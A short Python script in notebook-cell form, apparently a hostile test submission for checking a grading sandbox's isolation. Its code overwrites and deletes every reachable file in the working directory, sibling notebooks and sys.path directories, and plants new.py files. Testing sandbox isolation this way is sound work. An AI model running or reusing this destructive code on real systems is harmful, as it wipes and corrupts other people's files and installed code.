"""Changes and deletes the files of its submission, of others and of the package."""

# %% first cell
import os
import sys
from pathlib import Path

here = Path.cwd().resolve()
for path in [*here.rglob("*"), *here.parents[0].glob("*/*/*.ipynb"), *map(Path, sys.path)]:
    for change in (lambda p: p.write_text("changed"), os.unlink, lambda p: (p / "new.py").write_text("changed")):
        try:
            if "site-packages" not in str(path) and "lib" not in str(path):
                change(path)
        except (OSError, ValueError):
            continue
